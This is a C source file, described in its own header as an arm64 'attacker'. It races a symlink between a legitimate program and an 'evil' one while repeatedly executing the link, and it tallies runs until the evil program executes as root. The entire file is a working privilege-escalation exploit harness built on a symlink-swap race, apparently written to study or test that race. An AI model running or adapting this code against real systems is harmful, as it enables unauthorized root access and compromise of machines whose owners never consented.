/* An attacker for arm64: race closed|open PROGRAM EVIL TRIES ARGUMENT...
   Executes a symlink, while another process lets it lead to PROGRAM and to EVIL in turns. Both are
   guest.c, and the arguments its words. They begin with descriptor 0 closed or open. Stops when EVIL
   has run as root. Says how often which of them ran as whom. */
#define _GNU_SOURCE
#include <err.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>

static void lead_to(const char *target)
{
	if (symlink(target, "link.new") || rename("link.new", "link"))
		err(1, "link");
	usleep(rand() % 3000);
}

/* What the program at the end of the link prints. */
static void run(int closed, char **argv, char *output, size_t size)
{
	int ends[2];
	size_t length = 0;
	ssize_t got;
	pid_t child;

	if (pipe(ends) || (child = fork()) < 0)
		err(1, "fork");
	if (child == 0) {
		dup2(ends[1], 1);
		dup2(ends[1], 2);
		closefrom(3);
		if (closed)
			close(0);
		execv("link", argv);
		_exit(1);
	}
	close(ends[1]);
	while ((got = read(ends[0], output + length, size - 1 - length)) > 0)
		length += got;
	output[length] = 0;
	close(ends[0]);
	waitpid(child, NULL, 0);
}

int main(int argc, char **argv)
{
	int tries, program = 0, evil = 0, won = 0, i;
	char output[4096];
	pid_t swapper;

	if (argc < 6)
		return 2;
	tries = atoi(argv[4]);
	lead_to(argv[2]);
	if (!(swapper = fork())) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		for (;;) {
			lead_to(argv[3]);
			lead_to(argv[2]);
		}
	}
	for (i = 0; i < tries && !won; i++) {
		run(!strcmp(argv[1], "closed"), argv + 4, output, sizeof output);
		if (strstr(output, "evil 1000/0"))
			won++;
		else if (strstr(output, "guest 1000/0"))
			program++;
		else if (strstr(output, "evil 1000/1000"))
			evil++;
		if (won)
			fputs(output, stdout);
	}
	kill(swapper, SIGKILL);
	printf("%d tries: %d guest as root, %d evil as user, %d evil as root\n", i, program, evil, won);
	return 0;
}
